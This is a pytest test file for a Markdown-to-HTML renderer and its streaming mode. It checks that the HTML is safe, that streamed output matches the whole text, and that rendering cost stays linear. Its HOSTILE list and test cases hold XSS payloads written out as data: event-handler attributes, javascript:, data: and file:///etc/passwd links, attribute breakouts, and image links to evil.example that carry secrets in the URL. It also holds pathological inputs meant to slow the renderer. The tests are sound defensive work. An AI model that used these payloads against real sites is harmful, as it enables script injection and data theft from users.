"""What hostile and ordinary Markdown becomes: HTML that is safe, whole and not dear."""

from __future__ import annotations

import re
import sys
import time
from collections.abc import Callable
from html.parser import HTMLParser
from typing import TypeVar

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hookgate.channels.highlighting import LEXERS, MAX_LINE, Highlighting
from hookgate.channels.web.markdown import MAX_CHARS, MAX_OPEN, MAX_OPEN_CODE, MIN_PAUSE_S, StreamedMarkdown, to_html

OWN = "/media/" + "0f" * 32
REL = 'target="_blank" rel="noopener noreferrer nofollow"'
SAYS = [
    ("plain *and* **strong** ~~gone~~", "<p>plain <em>and</em> <strong>strong</strong> <s>gone</s></p>"),
    ("https://example.com/a", f'<p><a href="https://example.com/a" {REL}>https://example.com/a</a></p>'),
    ("see README.md and a@b.org", "<p>see README.md and a@b.org</p>"),
    ("| a | b |\n|--|-:|\n| 1 | 2 |", '<th class="right">b</th>'),
    ("3. third", '<ol start="3">'),
    (f"![a cat]({OWN})", f'<img src="{OWN}" alt="a cat">'),
    ("```python\ndef f(): ...\n```", '<pre data-language="python" tabindex="0"><code><span class="k">def</span> '),
    ("```\na < b\n```", '<pre tabindex="0"><code>a &lt; b\n</code></pre>'),
    ("```nosuch\na\n```", '<pre data-language="nosuch" tabindex="0"><code>a\n</code></pre>'),
    # What a model says of scripts is shown, what it says in script is not run.
    ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("![secret](https://evil.example/?q=key)", f'<p><a href="https://evil.example/?q=key" {REL}>secret</a></p>'),
    ("![](https://evil.example/x.png)", f"{REL}>https://evil.example/x.png</a></p>"),
    (
        "[![in a link](https://evil.example/x)](https://ok.example)",
        f'<a href="https://ok.example" {REL}>in a link</a>',
    ),
]
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>a</a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](/api/logout)",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example)",
    "[a](blob:https://x)",
    "<javascript:alert(1)>",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](//evil.example/x.png)",
    f"![a]({OWN}/../../api/me)",
    f"![a]({OWN}?x=1)",
    "[x]: javascript:alert(1)\n\n[x]",
    '```" onmouseover="alert(1)\na\n```',
    '```x"><script>alert(1)</script>\na\n```',
    '[a](https://e.example "\\" onmouseover=\\"alert(1)")',
    "![\" onerror=\"alert(1)](https://e.example)",
    "```html\n<script>alert(1)</script>\n```",
    "\u202e\u0000<b>\ud7ff",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
SHAPES = {
    **{
        f"{shape} again and again": shape for shape in ("[a](", "![", "[", "*a ", "**a", "_a_", "`", "~~", "<", "<a ")
    },
    **{
        f"{shape!r} again and again": shape
        for shape in ("- ", "> ", "1. ", "|", "a|", "#", "```\n", "~~~\n", "\\", "&")
    },
    **{
        f"{shape!r} and so on": shape
        for shape in ("[a]: b\n", "http://a.b/(", "*a_b", "[a][", "\n\n", "a\n---\n", "\t")
    },
    **{
        f"{shape!r} too": shape
        for shape in ("<!--", "]", "![a](b) ", "[a](b) ", "a@b.c ", "- a\n  ", "|a|\n|-|\n", "'")
    },
    "`` runs": "".join("a" + "`" * at for at in range(280)),
    "a deep list": "".join("  " * at + "- a\n" for at in range(190)),
}
CODE = ["'", '"', "`", "/*", "(", "<", "\\", "a='", "<<A\n", "=", "a ", "${"]


class Tags(HTMLParser):
    """All that a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    tags = Tags()
    tags.feed(html)
    for tag, attributes in tags.found:
        assert tag not in ("script", "style", "svg", "iframe", "object", "form", "input"), html
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "id", "name")], html
        assert re.match(r"(https?|mailto):", attributes.get("href") or "https:"), html
        assert "src" not in attributes or re.fullmatch(r"/media/[0-9a-f]{64}", attributes["src"] or ""), html


@pytest.mark.parametrize(("text", "html"), SAYS)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert html in to_html(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_markdown_runs_loads_or_leads_astray(text: str) -> None:
    for html in (to_html(text), to_html(f"> - {text}"), "".join(written(text))):
        assert_safe(html)


@given(st.text(alphabet="<>\"'`[]()!*_~|-#& \n:/abjscript=\\", max_size=200))
def test_no_text_becomes_anything_that_runs(text: str) -> None:
    assert_safe(to_html(text))


def seconds(text: str) -> float:
    began = time.thread_time()
    to_html(text)
    return time.thread_time() - began


@pytest.mark.parametrize("shape", SHAPES)
def test_the_cost_of_hostile_shapes_grows_with_their_length_alone(shape: str) -> None:
    """A quadratic one costs 16 times as much for four times the length."""
    short, long = (repeated(SHAPES[shape], chars) for chars in (4_000, 16_000))
    assert any(seconds(long) < 8 * seconds(short) + 0.05 for _ in range(3))


def repeated(piece: str, chars: int) -> str:
    return (piece * (chars // len(piece) + 1))[:chars]


@pytest.mark.parametrize("lexer", LEXERS)
def test_hostile_code_is_coloured_within_its_budget_or_not_at_all(lexer: str) -> None:
    language, budget_s = LEXERS[lexer][0], 0.004
    for shape in CODE:
        for line in (1, MAX_LINE):
            code = repeated(f"{repeated(shape, line)}\n", 30_000)
            took = []
            for _ in range(3):
                began = time.thread_time()
                Highlighting(budget_s).html(code, language)
                took.append(time.thread_time() - began)
                if took[-1] < 20 * budget_s:
                    break
            assert min(took) < 20 * budget_s, (shape, line)


def test_the_budget_is_one_for_all_code_of_a_text() -> None:
    assert seconds("```python\nx = [1, 'a'] # and so on\n```\n" * 500) < 1.5


def test_a_text_beyond_all_measure_is_shown_as_it_was_written() -> None:
    assert to_html("<b>" * MAX_CHARS).startswith("<pre>&lt;b&gt;&lt;b&gt;")


def written(text: str, size: int = 7) -> list[str]:
    """What is shown at the end of a text that came in pieces of so many characters: closed blocks, the open one."""
    streamed = StreamedMarkdown()
    closed = opened = ""
    for at in range(0, len(text), size):
        streamed.add(text[at : at + size])
        before, (closed, opened) = closed, streamed.render()
        assert closed.startswith(before)
        assert_safe(closed + opened)
    return [closed, opened]


ANSWER = f"""# A title

Some *words*
over lines.

- one
- two

  with a paragraph

| a | b |
|---|---|
| 1 | 2 |

```python
def f() -> int: # ünï
    return 1
```

> said\r\nby somebody

![cat]({OWN}) and the end"""


@pytest.mark.parametrize("size", [1, 2, 5, 16, 1000])
def test_an_answer_that_comes_in_pieces_ends_as_the_whole_one(size: int) -> None:
    assert "".join(written(ANSWER, size)) == to_html(ANSWER)


def test_a_block_that_has_closed_is_rendered_once() -> None:
    streamed = StreamedMarkdown()
    streamed.add("one\n\n```js\nlet a = 1")
    closed, opened = streamed.render()
    assert closed == "<p>one</p>\n"
    # Code that is still open has no colours yet.
    assert opened == '<pre data-language="js" tabindex="0"><code>let a = 1</code></pre>\n'
    streamed.add("\n```\n\n[late]\n\n[late]: https://e.example\n")
    assert '<span class="k">let</span>' in streamed.render()[0]


def test_only_line_ends_of_markdown_are_lines_while_it_is_written() -> None:
    streamed = StreamedMarkdown()
    streamed.add("one\u2028\x0c\x85two\r\n\r\nthree\rfour\n\nfive")
    closed, opened = streamed.render()
    again, last = streamed.render()
    assert (again, last) == (closed, opened)
    assert last == "<p>five</p>\n"


def test_writing_a_long_answer_costs_no_more_than_a_few_times_the_whole() -> None:
    answer, streamed = ANSWER * 60, StreamedMarkdown()
    began = time.thread_time()
    for at in range(0, len(answer), 200):
        streamed.add(answer[at : at + 200])
        streamed.render()
    assert time.thread_time() - began < 10 * seconds(answer) + 0.5


T = TypeVar("T")


def calls_of(work: Callable[[], T]) -> tuple[int, T]:
    """How many functions it calls, which is the same on every machine; and what it gives."""
    called = 0

    def count(_frame: object, event: str, _argument: object) -> None:
        nonlocal called
        called += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        given = work()
    finally:
        sys.setprofile(before)
    return called, given


OPEN = {
    "points": "- a [b](c) *d* and `e`, and what else there is to say\n",
    "nested": "- one\n  - a [b](c) *d*\n    - deeper still\n",
    "one point": "  a line of *one* point [that](c) goes on\n",
    "table": "| a | *b* | [c](d) |\n",
    "paragraph": "some *words* that [never](c) end\n",
    "one line": "some *words* that [never](c) end ",
    "one word": "word",
    "quote": "> some *words* that [never](c) end\n",
    "code": "    x = [1, 'a'] # and so on\n",
    "fence": "x = [1, 'a'] # and so on\n",
}
BEGINS = {"one point": "- begins\n", "table": "| a | b | c |\n|---|---|---|\n", "fence": "```text\n"}
"""Of a language without colours: those have a budget of time, so that their calls are other ones each time."""


@pytest.mark.parametrize("shape", OPEN)
def test_no_step_costs_more_the_longer_an_open_block_becomes(shape: str) -> None:
    costs = list[int]()
    most = MAX_OPEN_CODE if shape in ("code", "fence") else MAX_OPEN
    for size in (3 * most // 2, 3 * most):
        text = BEGINS.get(shape, "") + OPEN[shape] * (size // len(OPEN[shape]))
        streamed, shown = StreamedMarkdown(), [("", "")]
        streamed.add(text)
        steps = list[int]()
        while streamed.behind:
            called, now = calls_of(streamed.render)
            steps.append(called)
            shown.append(now)
        assert max(len(opened) for _, opened in shown) < 20 * most
        assert re.sub(r"<[^>]*>", "", "".join(shown[-1])).count("word") >= text.count("word")
        costs.append(max(steps))
    assert costs[1] < 1.15 * costs[0]


def test_a_dear_open_block_is_rendered_less_often() -> None:
    streamed = StreamedMarkdown()
    streamed.add("- a [b](c) *d*\n")
    streamed.render()
    cheap = streamed.pause_s
    streamed.add("- a [b](c) *d*\n" * 1500)
    streamed.render()
    assert streamed.pause_s > cheap >= MIN_PAUSE_S
